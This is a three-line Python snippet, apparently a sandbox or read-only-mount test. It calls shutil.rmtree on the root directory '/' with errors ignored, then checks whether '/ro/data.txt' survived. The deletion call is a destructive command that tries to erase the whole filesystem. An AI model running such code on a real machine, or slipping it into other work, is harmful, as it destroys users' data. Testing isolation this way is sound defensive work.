import os, shutil
shutil.rmtree("/", ignore_errors=True)
print("after", os.path.exists("/ro/data.txt"))
